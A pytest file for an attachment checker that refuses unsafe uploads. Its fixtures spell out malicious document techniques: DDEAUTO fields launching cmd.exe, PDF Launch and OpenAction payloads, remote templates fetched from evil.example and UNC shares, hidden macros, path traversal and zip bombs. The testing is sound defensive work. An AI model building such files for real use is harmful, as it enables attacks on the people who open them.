"""Is every file that is none of ours told from the others, with why and what to do?"""

from __future__ import annotations

import base64
import random
import struct
from pathlib import Path

import pytest

from casework.file_kinds import kind_of
from casework.file_packages import MOST_PARTS
from casework.file_words import WHY, NotTaken
from tests.casework.test_attachments import (
    DOCX,
    LOCKED_OFFICE,
    OLE,
    XLSX,
    bomb,
    locked,
    package,
    refused,
)
from tests.support.files import JPEG, PDF, PNG, jpeg, packed_pdf, pdf, png
from tests.support.locked_pdfs import NEEDS_PASSWORD, OWNER_ONLY

LINK = b"L\0\0\0\x01\x14\x02\0"  # how a shortcut begins
LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
WITH_MACRO = package("word/document.xml", "word/vbaProject.bin")
MACRO = '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'


def typed(types: bytes) -> bytes:
    """A Word file that says this of its parts."""
    return package("word/document.xml", **{"[Content_Types].xml": types})


def noise(octets: int) -> bytes:
    """A comment that no archive makes small."""
    return b"<!--" + random.Random(1).randbytes(octets // 2).hex().encode() + b"-->"


def related(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word file that points there."""
    rels = f'<R><r Type="http://a/{kind}" Target="{target}" TargetMode="{mode}"/></R>'
    return package("word/document.xml", **{"word/_rels/document.xml.rels": rels.encode()})


def word(part: bytes) -> bytes:
    """A Word file with another part of this XML."""
    return package("word/document.xml", **{"word/a.xml": part})


def excel(name: str, part: bytes) -> bytes:
    """A workbook with another part."""
    return package("xl/workbook.xml", **{name: part})


def chunk(target: str, part: bytes) -> bytes:
    """A Word file that takes another part in as a document."""
    rels = f'<R><r Type="http://a/aFChunk" Target="{target}"/></R>'.encode()
    name = "word/" + target.removeprefix("/word/")
    return package("word/document.xml", **{"word/_rels/document.xml.rels": rels, name: part})


def said(instruction: str) -> bytes:
    """A Word file with a field of this instruction: { } around a field within, | between two runs,
    ~ where a mark that Word passes over seems to end it."""
    mark, end = '<r><fldChar fldCharType="%s"/></r>', "</instrText></r>"
    begin = "<r><instrText>"
    passed = f'<AlternateContent><Choice Requires="x">{mark % "end"}</Choice></AlternateContent>'
    for sign, runs in (
        ("{", end + mark % "begin" + begin), ("}", end + mark % "end" + begin),
        ("|", end + begin), ("~", end + passed + begin),
    ):  # fmt: skip
        instruction = instruction.replace(sign, runs)
    field = mark % "begin" + begin + instruction + end + mark % "separate" + mark % "end"
    return word(f"<document><p>{field}</p></document>".encode())


def within(name: str, part: bytes) -> bytes:
    """A Word file in which another file is embedded under this name."""
    return package("word/document.xml", **{f"word/embeddings/{name}": part})


def packed(own: bytes) -> bytes:
    """A Word file that is no bomb by itself, and is one together with others."""
    return package("word/document.xml", **{"word/a": noise(600_000) + own + b"\0" * 110_000_000})


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("程序.pdf", b"MZ\x90\0" + b"\0" * 64, "program"),
        ("脚本.pdf", b"#!/bin/sh\n", "program"),
        ("网页.pdf", b"<html><script>alert(1)</script>", "markup"),
        ("矢量.png", b"\xef\xbb\xbf <svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "markup"),
        ("两种.pdf", b"<html><!-- \n" + PDF, "before_pdf"),
        ("两种.pdf", PDF + package("a.class"), "two"),
        ("两种.jpg", JPEG + package("a.class"), "two"),
        ("带尾巴.pdf", PDF + package("a.class") + b"\n%%EOF tail", "two"),
        ("长尾巴.pdf", pdf(package("a.class") + b"\0" * 70_000), "two"),
        ("空头.pdf", b"%PDF-1.4\n<script>alert(1)</script>\n%%EOF", "damaged"),
        ("半截.pdf", PDF[:-60], "damaged"),
        ("空头.png", b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "damaged"),
        ("半截.png", PNG[:-12], "damaged"),
        ("空头.jpg", b"\xff\xd8\xff" + b"MZ" * 100, "damaged"),
        ("半截.jpg", JPEG[:-2], "damaged"),
        *((f"尾巴.{kind}", picture + tail, "two") for kind, picture in (("png", PNG), ("jpg", JPEG))
          for tail in (b"MZ" + b"\0" * 100, b"Rar!\x1a\x07\0", b"\r\n<HTML><script>x</script>",
                       b"%PDF-1.4\n%%EOF", b"junk" * 9 + b"%PDF-1.4", b"PK\x03\x04xx", b"#!/bin/sh",
                       OLE, b"\x1f\x8b\x08")),
        ("巨图.png", png(2**31 - 1, 2**31 - 1), "huge"), ("长图.png", png(1, 70_000), "huge"),
        ("巨图.png", png(20_000, 20_000), "huge"), ("无尺寸.png", png(0, 1), "damaged"),
        ("巨图.jpg", jpeg(60_000, 60_000), "huge"), ("无尺寸.jpg", jpeg(0, 0), "damaged"),
        ("假尾.jpg", JPEG[:-2] + b"\xff\xc4\0\x04\xff\xd9", "damaged"),
        ("压缩.docx", package("hello.txt"), "archive"),
        ("压缩.docx", b"Rar!\x1a\x07\x01\0", "archive"),
        ("空包.docx", b"PK\x05\x06" + b"\0" * 18, "archive"),
        ("应用.docx", package("META-INF/MANIFEST.MF", "a.class"), "archive"),
        ("演示.docx", package("ppt/presentation.xml"), "office"),
        ("坏的.docx", b"PK\x03\x04" + b"\0" * 64, "damaged"),
        ("半截.docx", DOCX[:-30], "damaged"),
        ("宏.docx", package("word/document.xml", "word/VBAProject.bin"), "macros"),
        ("宏.xlsx", package("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "macros"),
        ("改名的宏.docx", package("word/document.xml", "word/a.bin", **{"[Content_Types].xml":
            b'<Override ContentType="application/vnd.ms-office.vbaProject"/>'}), "macros"),
        ("别种编码的宏.docx", typed(MACRO.encode("utf-16")), "macros"),
        ("实体的宏.docx", typed(MACRO.replace("P", "&#80;").encode()), "macros"),
        ("空白后的宏.docx", typed(noise(1_100_000) + MACRO.encode()), "macros"),
        ("有实体的.docx", typed(b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "damaged"),
        ("模板.docx", related("attachedTemplate", "http://evil.example/x.dotm"), "fetches"),
        ("共享.docx", related("oleObject", "file:///\\\\evil\\x", "Exter&#110;al"), "fetches"),
        *(("域.docx", said(field), "starts") for field in (
            r'DDEAUTO c:\\windows\\cmd.exe "/k calc"', " dde cmd x", "DATABASE \\d x", "{QUOTE 68}x",
            "DDEA|UTO cmd x", "DDEA~UTO cmd x", "IF 1=1 {DDEAUTO cmd x}",
        )),
        *(("域.docx", said(field), "fetches") for field in (
            'INCLUDEPICTURE "http://10.0.0.1/x.png" \\d', r"includetext \\\\10.0.0.1\\a.docx",
            'LINK Excel.Sheet.8 "\\\\\\\\a\\\\b.xlsx" "S!R1C1:R2C2" \\a', "INCLUDEPICTURE {REF x}",
            "INCLUDEPICTURE \\d “https://a/x.png”", "RD file://10.0.0.1/a",
        )),
        ("简单域.docx", word(b'<fldSimple instr="INCLUDEPICTURE &quot;http://a/x.png&quot;"/>'),
         "fetches"),
        ("别种编码的域.docx", word('<fldSimple instr="DDEAUTO a b"/>'.encode("utf-16")), "starts"),
        ("怪编码的域.docx", word('<?xml version="1.0" encoding="GBK"?><a>中</a>'.encode("gbk")),
         "damaged"),
        ("改名的页眉.docx", package("word/document.xml", **{"word/a.dat":
            b'<hdr><fldSimple instr="DDEAUTO a b"/></hdr>'}), "starts"),
        ("夹网页.docx", chunk("afchunk.dat", b"<html><script>alert(1)</script>"), "inside"),
        ("夹网页.docx", chunk("/word/afchunk.docx", b"MIME-Version: 1.0"), "inside"),
        ("启动程序.xlsx", excel("xl/externalLinks/externalLink1.xml",
            b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), "starts"),
        *(("取数.xlsx", excel("xl/connections.xml", connection), "fetches") for connection in (
            b'<c><connection><webPr url="http://10.0.0.1/"/></connection></c>',
            b'<c><connection><dbPr connection="Data Source=10.0.0.1"/></connection></c>',
            b'<c><connection><textPr sourceFile="\\\\10.0.0.1\\a.csv"/></connection></c>',
            b'<c><connection odcFile="http://10.0.0.1/a.odc"/></c>',
        )),
        ("对象.docx", package("word/document.xml", **{"word/x.bin": OLE}), "inside"),
        ("图片在外.docx", related("image", "\\\\evil\\share\\x.png"), "fetches"),
        ("图片在网.docx", related("image", "https://evil.example/x.png"), "fetches"),
        ("邮件合并.docx", related("mailMergeSource", "https://evil.example/x"), "fetches"),
        ("藏压缩包.docx", within("x.docx", package("evil.exe")), "inside"),
        ("藏宏.docx", within("x.docx", WITH_MACRO), "inside"),
        ("藏两层.docx", within("x.docx", within("y.docx", DOCX)), "inside"),
        ("藏错名.docx", within("x.docx", XLSX), "inside"),
        ("藏坏包.docx", within("x.docx", b"PK\x03\x04" + b"\0" * 64), "inside"),
        ("藏演示.docx", within("x.pptx", package("ppt/presentation.xml")), "inside"),
        ("藏炸弹.docx", within("x.docx", bomb()), "bomb"),
        ("分装炸弹.docx", package("word/document.xml", **{f"word/embeddings/{n}.docx": part
            for n, part in enumerate([packed(b"%d" % n) for n in range(3)])}), "bomb"),
        ("藏多件.docx", within("x.xlsx", package("xl/workbook.xml", *(
            f"p/{n}" for n in range(MOST_PARTS - 2)))), "bomb"),
        ("网页程序.docx", package("word/document.xml", "word/media/a.hta"), "inside"),
        ("脚本.docx", package("word/document.xml", "word/media/A.JS"), "inside"),
        ("快捷方式.docx", package("word/document.xml", **{"word/media/b.png": LINK}), "inside"),
        ("空的.docx", package(**{"word/document.xml": b""}), "damaged"),
        ("不是XML.ofd", package(**{"OFD.xml": b"not xml"}), "damaged"),
        ("根不对.xlsx", package(**{"xl/workbook.xml": b"<document/>"}), "damaged"),
        ("半截的.docx", package(**{"word/document.xml": b"<document><p>"}), "damaged"),
        ("实体.ofd", package(**{"OFD.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><OFD>&b;</OFD>'}),
         "damaged"),
        ("启动.pdf", pdf(catalog=b"/OpenAction 5 0 R", more=[LAUNCH]), "runs"),
        ("装在流里的启动.pdf", packed_pdf(catalog=b"/OpenAction 5 0 R", more=[LAUNCH]), "runs"),
        ("换写法的启动.pdf", pdf(catalog=b"/OpenAction<</S/L#61unch/F(a)>>"), "runs"),
        ("间接的脚本.pdf", packed_pdf(catalog=b"/AA<</WC 5 0 R>>", more=[
            b"<</S 6 0 R/JS 7 0 R>>", b"/JavaScript", b"(app.alert\\(1\\))"]), "runs"),
        ("附件.pdf", pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>", more=[
            b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
            b"<</Length 2>>stream\nMZ\nendstream"]), "runs"),
        ("动态表单.pdf", pdf(catalog=b"/AcroForm<</XFA 4 0 R>>"), "runs"),
        ("炸弹.pdf", packed_pdf(catalog=b"/X 5 0 R", more=[b"[%b]" % (b"0 " * 30_000_000)]),
         "heavy_pdf"),
        *(("自动.pdf", packed_pdf(catalog=where, more=more), "opens") for where, *more in (
            (b"/OpenAction<</S/SubmitForm/F(http://10.0.0.1/)>>",),
            (b"/OpenAction<</S/URI/URI(http://10.0.0.1/)>>",),
            (b"/OpenAction<</S/ImportData/F(\\\\10.0.0.1\\a)>>",),
            (b"/OpenAction<</S/GoToR/F(\\\\10.0.0.1\\a)/D[0/Fit]>>",),
            (b"/OpenAction<</S/Go#54oE/F(\\\\10.0.0.1\\a.pdf)>>",),
            (b"/AA<</WC 5 0 R>>", b"<</S/URI/URI(http://10.0.0.1/)>>"),
            (b"/OpenAction 5 0 R", b"<</S 6 0 R/URI(http://10.0.0.1/)>>", b"/URI"),
            (b"/OpenAction 5 0 R", b"<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>",
             b"[5 0 R<</S/Named/N/NextPage/Next<</S/URI/URI(http://a)>>>>]"),
        )),
        ("翻页即开.pdf", pdf(catalog=b"/X 5 0 R", more=[
            b"<</Type/Page/AA<</O<</S/URI/URI(http://10.0.0.1/)>>>>>>"]), "opens"),
        ("出走.docx", package("word/document.xml", "../../tmp/x"), "astray"),
        ("绝对.docx", package("word/document.xml", "/etc/x"), "astray"),
        ("反斜.docx", package("word/document.xml", "a\\..\\b"), "astray"),
        ("两份.docx", package("word/document.xml", "[Content_Types].xml", "[content_types].xml"),
         "damaged"),
        ("加密.docx", locked(), "locked_archive"),
        ("密码.docx", OLE + b"\0" * 64 + LOCKED_OFFICE, "locked_office"),
        ("旧版.doc", OLE + b"\0" * 600, "old_office"),
        ("旧版.xls", OLE + b"\0" * 600, "old_office"),
        ("文字.wps", OLE + b"\0" * 600, "old_office"),
        ("文本.doc", b"{\\rtf1\\ansi", "old_office"),
        ("炸弹.docx", bomb(), "bomb"),
        ("多件.xlsx", package("xl/workbook.xml", *(f"p/{n}" for n in range(MOST_PARTS))), "bomb"),
        ("套娃.docx", package("word/document.xml", **{"word/a.bin": package("b")}), "inside"),
        ("夹带.ofd", package("OFD.xml", **{"Doc_0/a.dat": b"MZ" + b"\0" * 20}), "inside"),
        ("手机.jpg", b"\0\0\0\x24ftypheic" + b"\0" * 20, "picture"),
        ("动图.png", b"GIF89a", "picture"),
        ("文字.pdf", "申报材料".encode(), "unknown"),
        ("密码.pdf", base64.b64decode(NEEDS_PASSWORD), "locked_pdf"),
    ],
)  # fmt: skip
def test_what_is_none_of_ours_says_why_and_what_to_do(
    tmp_path: Path, name: str, content: bytes, reason: str
) -> None:
    said = refused(name, content, tmp_path, most_mb=5)
    zh, do_zh, en, do_en = (words.partition("{inner}")[0] for words in WHY[reason])
    for part in (name, zh, do_zh, "没有收下"):
        assert part in said[0]
    for part in (name, en, do_en, "it was not taken"):
        assert part in said[1]


def test_an_embedded_table_is_no_archive_and_a_signed_pdf_opens_for_everybody() -> None:
    table = {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": XLSX}
    assert kind_of(package("word/document.xml", **table)) == "docx"
    assert kind_of(base64.b64decode(OWNER_ONLY)) == "pdf"
    assert kind_of(pdf(b"/Encrypt")) == "pdf"
    links = b"/OpenAction[3 0 R/Fit]/X<</S/URI/URI(http://a/Launch/EF)>>/Y(/JavaScript)"
    assert kind_of(packed_pdf(catalog=links)) == "pdf"


def test_a_picture_with_what_a_telephone_puts_behind_it_is_taken() -> None:
    second, film = JPEG, b"\0\0\0\x18ftypmp42" + bytes(range(256)) * 9
    later = b"\xff\xda\0\x08\1\1\0\0\x3f\0" + b"\0\xff\0\xff\xd0\0"  # of a progressive one
    for tail in (b"", b"\0" * 9, second, film, b"<?xpacket end?>"):
        assert kind_of(JPEG + tail) == "jpg"
    assert kind_of(JPEG[:-2] + later + b"\xff\xd9") == "jpg"
    assert kind_of(PNG + b"\n") == kind_of(png(9921, 14031)) == "png"


@pytest.mark.parametrize("field", [
    "PAGE", "= {PAGE} - 1", 'HYPERLINK "https://www.miit.gov.cn/database/dde"', "REF _DDE_LINK1 \\h",
    r'INCLUDEPICTURE "C:\\Users\\a\\x.png" \* MERGEFORMATINET',
    'LINK Excel.Sheet.8 "D:\\\\a.xlsx" "S!R1C1:R2C2" \\a \\f 0', 'TOC \\o "1-3"',
    r'INCLUDEPICTURE "C:\\x.png"}{HYPERLINK "http://a/"',
])  # fmt: skip
def test_a_field_that_counts_refers_or_is_clicked_is_taken(field: str) -> None:
    assert kind_of(said(field)) == "docx"


def test_data_of_ones_own_and_a_document_taken_in_are_no_fetching() -> None:
    own = b'<c><connection><dbPr connection="Data Model Connection"/></connection></c>'
    assert kind_of(excel("xl/connections.xml", own)) == "xlsx"
    text = b'<c><connection><textPr sourceFile="D:\\a.csv"/></connection></c>'
    assert kind_of(excel("xl/connections.xml", text)) == "xlsx"
    assert kind_of(chunk("part1.docx", DOCX)) == "docx"


def test_a_pdf_that_turns_to_its_own_page_or_waits_for_a_click_is_taken() -> None:
    clicked = b"<</S/URI/URI(http://a/)/Next[<</S/GoToR/F(a.pdf)>>]>>"
    annotation = b"<</Subtype/Link/Rect[0 0 9 9]/A %b>>" % clicked
    for where, *more in (
        (b"/OpenAction[3 0 R/XYZ null null null]", annotation),
        (b"/OpenAction 5 0 R/AA<</WC<</S/Hide/T(a)>>>>", b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>"),
        (b"/Resources<</XObject<</AA 5 0 R>>>>", b"<</Group<</S/Transparency>>>>"),
    ):
        assert kind_of(packed_pdf(catalog=where, more=more)) == "pdf"


@pytest.mark.parametrize(("kind", "target"), [
    ("hyperlink", "https://www.miit.gov.cn/"), ("attachedTemplate", "Normal.dotm"),
    ("externalLinkPath", "/工作/指标.xlsx"),
    ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
])  # fmt: skip
def test_a_link_that_a_reader_follows_and_a_template_of_ones_own_are_taken(
    kind: str, target: str
) -> None:
    assert kind_of(related(kind, target)) == "docx"


def test_the_size_that_an_archive_claims_is_believed_before_anything_is_unpacked() -> None:
    content = bytearray(DOCX)
    where = content.rindex(b"PK\x01\x02")
    content[where + 24 : where + 28] = struct.pack("<I", 2**31)
    with pytest.raises(NotTaken, match="bomb"):
        kind_of(bytes(content))
